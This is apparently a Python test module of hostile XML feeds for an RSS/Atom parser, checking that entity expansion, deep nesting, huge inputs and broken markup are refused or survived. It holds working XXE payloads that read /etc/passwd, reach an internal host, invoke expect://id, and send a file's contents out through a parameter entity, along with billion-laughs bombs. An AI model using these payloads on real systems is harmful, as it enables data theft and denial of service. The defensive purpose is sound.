"""XML made to harm: entities, what lies elsewhere, depth, width, faults."""

from __future__ import annotations

import itertools

from hostile.case import Case, document, fails, held, reads

ENTITIES = "declares XML entities that could harm, which are refused"
TOO_LARGE = "larger than 10 MB"
COUNT = itertools.count()
ITEM = "<item><title>One</title><link>https://x.example/1</link></item>"


def rss(items: str = ITEM, channel: str = "", root: str = "", before: str = "") -> str:
    """RSS with a story that no other document here tells."""
    items = items.replace("x.example/1", f"x.example/of/{next(COUNT)}")
    return f'{before}<rss version="2.0"{root}><channel><title>News</title>{channel}{items}</channel></rss>'


def atom(entry: str = "", root: str = "") -> str:
    return (
        f'<feed xmlns="http://www.w3.org/2005/Atom"{root}><title>News</title>'
        f"<entry><id>urn:x:{next(COUNT)}</id><title>One</title>{entry}</entry></feed>"
    )


def doctype(inside: str, use: str = "&a;") -> str:
    return rss(ITEM.replace("One", use), before=f"<!DOCTYPE rss [{inside}]>")


def laughs(levels: int, times: int) -> str:
    return '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * times}">' for n in range(levels)
    )


DECLARED = {
    "a billion laughs": doctype(laughs(9, 10), "&j;"),
    "laughs, two by two": doctype(laughs(20, 2), "&u;"),
    "laughs in an attribute": doctype(laughs(9, 10)).replace("<item>", '<item a="&j;">'),
    "laughs without use": doctype(laughs(9, 10), "x"),
    "one long entity many times": doctype(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 50_000),
    "an entity of itself": doctype('<!ENTITY a "&a;">'),
    "two entities of each other": doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    "a file": doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'),
    "a file by name": doctype('<!ENTITY a SYSTEM "/etc/passwd">'),
    "a device": doctype('<!ENTITY a SYSTEM "file:///dev/zero">'),
    "a page": doctype('<!ENTITY a SYSTEM "http://10.0.0.1/secret">'),
    "a public page": doctype('<!ENTITY a PUBLIC "x" "http://10.0.0.1/secret">'),
    "ftp": doctype('<!ENTITY a SYSTEM "ftp://10.0.0.1/secret">'),
    "a command": doctype('<!ENTITY a SYSTEM "expect://id">'),
    "a parameter entity": doctype('<!ENTITY % p SYSTEM "http://10.0.0.1/x.dtd">%p;'),
    "a parameter entity that sends a file": doctype(
        '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p "<!ENTITY a SYSTEM \'http://10.0.0.1/%f;\'>">%p;'
    ),
    "an unparsed entity": doctype('<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "/etc/passwd" NDATA n>'),
    "in lower case": doctype('<!entity a "&b;">'),
    "after a comment": doctype('<!-- <rss> --><!ENTITY a "&b;">'),
    "after 1 MB of comment": doctype(f'<!--{"x" * 1_000_000}--><!ENTITY a "&b;">'),
    "after an instruction": doctype('<?x <rss> ?><!ENTITY a "&b;">'),
    "40,000 of them": doctype("".join(f'<!ENTITY a{n} "b">' for n in range(40_000))),
}

EXTERNAL = {
    "a DTD of a host": rss(before='<!DOCTYPE rss SYSTEM "http://10.0.0.1/rss.dtd">'),
    "a DTD of a file": rss(before='<!DOCTYPE rss SYSTEM "file:///etc/passwd">'),
    "a public DTD": rss(before='<!DOCTYPE rss PUBLIC "-//x//y" "http://10.0.0.1/rss.dtd">'),
    "a DTD without entities": rss(before='<!DOCTYPE rss [<!ELEMENT rss ANY><!ATTLIST rss a CDATA "b">]>'),
    "a style sheet": rss(before='<?xml-stylesheet href="http://10.0.0.1/x.xsl" type="text/xsl"?>'),
    "an inclusion": rss(
        ITEM.replace("One", 'One<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')
    ),
    "a schema": rss(root=' xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="a http://10.0.0.1/"'),
    "a namespace": rss(root=' xmlns="http://10.0.0.1/ns"'),
    "content elsewhere": atom('<content src="http://10.0.0.1/secret" type="text/html"/>'),
    "content in a file": atom('<content src="file:///etc/passwd" type="text/html"/>'),
    "another page of it": atom("", ' xml:base="http://10.0.0.1/"').replace("<entry", '<link rel="next" href="/2"/><entry'),
    "a new address": rss(channel='<itunes:new-feed-url xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">'
                         "http://10.0.0.1/</itunes:new-feed-url>"),
}  # fmt: skip

DEEP = {
    f"{name}, {depth:,} deep": rss(ITEM.replace("One", f"One{first * depth}{last * depth}"))
    for depth in (1_000, 100_000)
    for name, first, last in (
        ("elements", "<a>", "</a>"),
        ("elements without end", "<a>", ""),
        ("ends without elements", "", "</a>"),
        ("escaped HTML", "&lt;b>", "&lt;/b>"),
    )
} | {
    "items in items": rss("<item><title>x</title>" * 10_000 + "</item>" * 10_000),
    "channels in channels": rss("<channel>" * 50_000 + ITEM + "</channel>" * 50_000),
    "feeds in feeds": rss('<rss version="2.0"><channel>' * 20_000 + ITEM),
    "entries in entries": atom("<entry><id>1</id>" * 20_000 + "</entry>" * 20_000),
    "authors in authors": atom("<author>" * 20_000 + "<name>x</name>" + "</author>" * 20_000),
    "sources in sources": atom("<source>" * 20_000 + "<title>x</title>" + "</source>" * 20_000),
    "xhtml, 50,000 deep": atom(
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">' + "<b>" * 50_000 + "</b>" * 50_000 + "</div></content>"
    ),
    "svg, 50,000 deep": rss(f"<item><title>x</title><description>{'&lt;svg>&lt;g>' * 50_000}</description></item>"),
    "bases in bases": rss(ITEM.replace("One", '<a xml:base="x/">' * 3_000)),
    "long bases in bases": rss(ITEM.replace("One", f'<a xml:base="{"x/" * 1_900}">' * 200)),
    "languages in languages": rss(ITEM.replace("One", '<a xml:lang="en">' * 50_000)),
    "namespaces in namespaces": rss(ITEM.replace("One", '<a xmlns="http://x.example/">' * 50_000)),
}  # fmt: skip

WIDE = {
    "half a million attributes": rss(root="".join(f' a{n}="b"' for n in range(500_000))),
    "a million attributes of an item": rss(ITEM.replace("<item", "<item" + "".join(f' a{n}="b"' for n in range(600_000)))),
    "an attribute a million times": rss(root=' a="b"' * 1_000_000),
    "an attribute of 9 MB": rss(root=f' a="{"x" * 9_000_000}"'),
    "a million attributes without values": rss(root=" a" * 1_000_000),
    "300,000 namespaces": rss(root="".join(f' xmlns:a{n}="b"' for n in range(300_000))),
    "an element's name of 9 MB": rss(ITEM.replace("One", f"<{'x' * 9_000_000}/>")),
    "a prefix of 4 MB": rss(ITEM.replace("One", f"<{'x' * 4_000_000}:y/>")),
    "a namespace of 4 MB": rss(root=f' xmlns:a="{"x" * 4_000_000}"', items="<a:b/>" * 50_000 + ITEM),
    "a title of 20 MB": rss(ITEM.replace("One", "x" * 20_000_000)),
    "a title of 9 MB": rss(ITEM.replace("One", "x" * 9_000_000)),
    "a title of 9 MB in CDATA": rss(ITEM.replace("One", f"<![CDATA[{'<b>' * 3_000_000}]]>")),
    "a title of 9 MB of emoji": rss(ITEM.replace("One", "\U0001f600" * 2_250_000)),
    "a link of 9 MB": rss(ITEM.replace("https", "https://x.example/" + "x" * 9_000_000)),
    "a guid of 9 MB": rss(ITEM.replace("<link>", f"<guid>{'x' * 9_000_000}</guid><link>")),
    "a date of 9 MB": rss(ITEM.replace("<link>", f"<pubDate>{'1 ' * 4_500_000}</pubDate><link>")),
    "a text of 9 MB": rss(ITEM.replace("<link>", f"<description>{'x ' * 4_500_000}</description><link>")),
    "a text of 9 MB of HTML": rss(ITEM.replace("<link>", f"<description>{'&lt;p>x' * 1_200_000}</description><link>")),
    "a text of 9 MB of links": rss(
        ITEM.replace("<link>", f"<description>{'&lt;a href=/x>x&lt;/a>' * 400_000}</description><link>")
    ),
    "a feed's title of 9 MB": rss().replace("News", "x" * 9_000_000),
    "10,000 titles of 900 letters": rss("".join(f"<item><title>{n} {'x' * 900}</title></item>" for n in range(10_000))),
    "50,000 entries": rss("".join(f"<item><guid>{n}</guid><title>Number {n} of many</title></item>" for n in range(50_000))),
    "150,000 empty items": rss("<item/>" * 150_000 + ITEM),
    "a million empty items": rss("<item/>" * 1_000_000),
    "50,000 Atom entries": atom().replace("<entry>", "<entry><id>2</id></entry>" * 50_000 + "<entry>"),
    **{
        f"900 KB of {name}": rss(ITEM.replace("<link>", element * (900_000 // len(element)) + "<link>"))
        for name, element in (
            ("titles", "<title>x</title>"),
            ("links", "<link>https://x.example/2</link>"),
            ("categories", "<category>x</category>"),
            ("authors", "<author>a@b.example (c)</author>"),
            ("enclosures", '<enclosure url="https://x.example/a.mp3" length="1" type="audio/mpeg"/>'),
            ("dates", "<pubDate>Mon, 02 Mar 2026 12:00:00 GMT</pubDate>"),
            ("descriptions", "<description>x</description>"),
            ("sources", '<source url="https://y.example/">y</source>'),
            ("comments", "<!-- x -->"),
            ("instructions", "<?x y?>"),
            ("CDATA sections", "<![CDATA[x]]>"),
            ("references", "&#65;&#x42;"),
            ("unknown references", "&nbsp;&unknown;"),
            ("unknown elements", "<x y='z'>x</x>"),
        )
    },
}  # fmt: skip

BROKEN = {
    "cut in an item": rss(ITEM * 2)[:-70],
    "elements closed crosswise": rss("<item><title><b>One</title></b></item>"),
    "an item that is not closed": rss("<item><title>One</title>"),
    "no quotes": rss(ITEM.replace("<item", "<item a=b")),
    "bare ampersands": rss(ITEM.replace("One", "One & two &c; &; &#; &#x; & ")),
    "less than": rss(ITEM.replace("One", "1 < 2 > 1 << 4")),
    "rubbish after it": rss() + "\0\1\2</html>" * 1_000,
    "a warning before it": "<br />\n<b>Warning</b>: in /srv/x.php on line 3<br />" + rss(),
    "a declaration in its middle": rss('<?xml version="1.0"?>' + ITEM),
    "version 9.9": rss(before='<?xml version="9.9"?>'),
    "no namespace": rss(ITEM.replace("<link>", "<dc:creator>Ann</dc:creator><x:y/><link>")),
    "CDATA in CDATA": rss(ITEM.replace("One", "<![CDATA[One<![CDATA[Two]]>]]>")),
    "a comment that is not closed": rss(ITEM + "<!-- "),
    "a DOCTYPE that is not closed": "<!DOCTYPE rss [" + rss(),
    "every control character": rss(ITEM.replace("One", "One" + "".join(map(chr, range(1, 32))))),
    "C1 controls": rss(ITEM.replace("One", "One" + "".join(map(chr, range(127, 160))))),
    "NULs": rss(ITEM.replace("One", "O\0n\0e")),
    "100,000 NULs": rss(ITEM.replace("One", "One" + "\0" * 100_000)),
    "noncharacters": rss(ITEM.replace("One", "One\ufffe\uffff\U0001fffe\ufdd0")),
    "text that turns round": rss(ITEM.replace("One", "One\u202e\u2066\u200b\ufeff\u00ad")),
    **{f"the reference {reference}": rss(ITEM.replace("One", f"One {reference}"))
       for reference in ("&#0;", "&#1;", "&#27;[31m", "&#xD800;", "&#55357;&#56832;", "&#xFFFE;", "&#x110000;",
                         "&#99999999999999999999;", "&#x;", "&#-1;", "&#1" + "0" * 100_000 + ";")},
}  # fmt: skip


CASES: dict[str, Case] = {
    **{f"entities: {name}": fails(document(text), ENTITIES) for name, text in DECLARED.items()},
    "entities: in UTF-16": fails(document(doctype('<!ENTITY a "&b;">').encode("utf-16")), ENTITIES),
    "entities: in UTF-32": fails(document(doctype('<!ENTITY a "&b;">').encode("utf-32")), ENTITIES),
    "entities: in EBCDIC": fails(document(doctype('<!ENTITY a "&b;">').encode("cp037")), "text, not a feed"),
    **{f"external: {name}": reads(document(text), 1) for name, text in EXTERNAL.items()},
    **{f"deep: {name}": held(document(text)) for name, text in DEEP.items()},
    **{f"wide: {name}": held(document(text)) for name, text in WIDE.items()},
    **{f"broken: {name}": reads(document(text), 1) for name, text in BROKEN.items()},
    "broken: a second root": reads(document(rss() + rss()), 2),
    "broken: cut before an item": fails(
        document(rss().partition("<item")[0]), "breaks off before its first entry"
    ),
    "broken: cut in a tag": fails(
        document(rss().partition("<item")[0] + "<ite"), "breaks off before its first entry"
    ),
    "broken: nothing closed": fails(
        document("<rss version=2.0><channel><item><title>One"), "breaks off before its first entry"
    ),
}
